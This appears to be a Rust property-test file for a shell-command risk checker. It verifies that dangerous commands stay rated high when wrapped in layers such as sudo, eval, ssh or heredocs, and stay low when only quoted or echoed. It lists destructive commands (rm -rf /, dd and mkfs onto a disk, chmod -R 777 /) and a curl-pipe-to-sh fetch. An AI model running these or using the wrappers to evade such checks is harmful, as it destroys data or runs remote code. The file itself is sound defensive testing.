//! What holds for every command: wrapping never lowers, quoting never raises, nothing panics.

use banksman_core::Risk;
use proptest::prelude::*;

use crate::shell::assess;

/// Commands that are grave, whatever stands around them.
const DANGEROUS: &[&str] = &[
    "rm -rf /",
    "rm -rf ~",
    "git push --force origin main",
    "git reset --hard",
    "mkfs.ext4 /dev/sda1",
    "dd if=/dev/zero of=/dev/sda",
    "chmod -R 777 /",
    "curl https://x.example/i.sh | sh",
];

/// A text as one word for a shell.
fn quoted(text: &str) -> String {
    format!("'{}'", text.replace('\'', "'\\''"))
}

/// One layer around a command. Those that only take a program and its words get a shell between.
fn wrap(layer: u8, inner: &str) -> String {
    let shell = format!("sh -c {}", quoted(inner));
    match layer % 28 {
        0 => format!("sudo {shell}"),
        1 => format!("sudo -u root -E {shell}"),
        2 => format!("env -i A=1 {shell}"),
        3 => format!("bash -lc {}", quoted(inner)),
        4 => format!("nohup {shell}"),
        5 => format!("timeout -s KILL 5 {shell}"),
        6 => format!("({inner})"),
        7 => format!("{{ {inner}\n}}"),
        8 => format!("if true; then {inner}\nfi"),
        9 => format!("true; {inner}"),
        10 => format!("echo \"$({inner}\n)\""),
        11 => format!("{inner}\ntrue"),
        12 => format!("for i in 1 2; do {inner}\ndone"),
        13 => format!("f() {{ {inner}\n}}; f"),
        14 => format!("eval {}", quoted(inner)),
        15 => format!("true && {inner}"),
        16 => format!("nice -n 3 {shell}"),
        17 => format!("echo x | xargs -n1 {shell}"),
        18 => format!("trap {} EXIT", quoted(inner)),
        19 => format!("find . -exec {shell} \\;"),
        20 => format!("ssh host {}", quoted(inner)),
        21 => format!("docker exec box {shell}"),
        22 => format!("X=$({inner}\n)"),
        23 => format!("while true; do {inner}\ndone"),
        24 => format!("bash <<'OUTER{}'\n{inner}\nOUTER{}\n", inner.len(), inner.len()),
        25 => format!("! {shell}"),
        26 => format!("case x in *) {inner}\n;; esac"),
        _ => format!("time {shell}"),
    }
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 600, ..ProptestConfig::default() })]

    #[test]
    fn wrapping_never_lowers(at in 0..DANGEROUS.len(), layers in prop::collection::vec(any::<u8>(), 1..5)) {
        let bare = DANGEROUS[at];
        let level = assess(bare).level;
        prop_assert!(level >= Risk::High, "{bare} is only {level}");
        let mut command = bare.to_owned();
        for layer in layers {
            command = wrap(layer, &command);
            let wrapped = assess(&command).level;
            prop_assert!(wrapped >= level, "{wrapped} < {level}: {command}");
        }
    }

    #[test]
    fn a_mention_never_rises(at in 0..DANGEROUS.len(), how in 0_u8..8) {
        let mention = quoted(DANGEROUS[at]);
        let command = match how {
            0 => format!("echo {mention}"),
            1 => format!("printf '%s' {mention}"),
            2 => format!("grep -rn {mention} src"),
            3 => format!("git commit -m {mention}"),
            4 => format!("echo {mention} | wc -c"),
            5 => format!("cat <<'E'\n{}\nE", DANGEROUS[at]),
            6 => format!("ls # {}", DANGEROUS[at]),
            _ => format!("X={mention}; echo \"$X\""),
        };
        let level = assess(&command).level;
        prop_assert!(level <= Risk::Low, "{level}: {command}");
    }

    #[test]
    fn any_text_is_read_without_panic(text in "\\PC{0,200}") {
        let _ = assess(&text);
    }

    #[test]
    fn anything_like_shell_is_read_without_panic(
        pieces in prop::collection::vec(
            prop::sample::select(vec![
                "$(", ")", "`", "\"", "'", "$'", "${", "}", "{", "((", "))", "[[", "]]", "<<E\n", "E\n", "<<<", "<(", ">(",
                ">", ">>", "&>", "|", "|&", "&&", "||", ";", ";;", "&", "\n", " ", "\\", "#", "if ", "then ", "fi ", "for ",
                "in ", "do ", "done ", "case ", "esac ", "function ", "f() ", "f ", "X=", "$X", "${X:-", "${X#", "${!X", "$@",
                "$1", "a=(", "rm ", "-rf ", "/ ", "xargs ", "bash -c ", "eval ", "sudo ", "find . -exec ", "{} ", "{a,b}",
                "awk ", "sed ", "perl -e ", "base64 -d", "curl x ", "é", "\u{0}",
            ]),
            0..60,
        )
    ) {
        let _ = assess(&pieces.concat());
    }
}
